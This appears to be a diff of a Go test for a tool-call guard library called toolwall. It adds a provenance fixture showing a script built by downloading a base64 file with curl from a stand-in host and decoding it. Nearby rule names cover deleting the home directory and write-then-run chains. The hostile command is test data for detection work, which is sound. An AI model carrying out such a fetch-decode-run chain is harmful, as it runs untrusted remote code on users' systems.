@@ -12,6 +12,7 @@ import (
 	"time"
 
 	"github.com/toolwall/toolwall"
+	"github.com/toolwall/toolwall/provenance"
 	"github.com/toolwall/toolwall/session"
 )
 
@@ -51,6 +52,12 @@ func checkRoundTrip(t *testing.T, open func(*testing.T, session.Options) session
 		Effects: []toolwall.Effect{
 			{Tag: toolwall.TagWriteScript, Path: "/w/run.sh", Detail: "destructive"},
 			{Tag: toolwall.TagStage, Path: "/w/run.sh"},
+			// where the bytes came from, with the flow encoding's
+			// separators: stores keep origins byte for byte
+			{Tag: provenance.TagOrigin, Path: "/w/run.sh", Detail: provenance.Flow{
+				{Kind: provenance.Network, Via: "curl", From: "https://h.example/x.b64", Path: "/w/x.b64", Turn: 2, Call: "curl -o x.b64 https://h.example/x.b64"},
+				{Kind: provenance.Decoded, Via: "base64 -d x.b64", Path: "/w/run.sh"},
+			}.Encode()},
 		},
 		Rules: []string{"rm.home", "chain.write-run"},
 	}, {
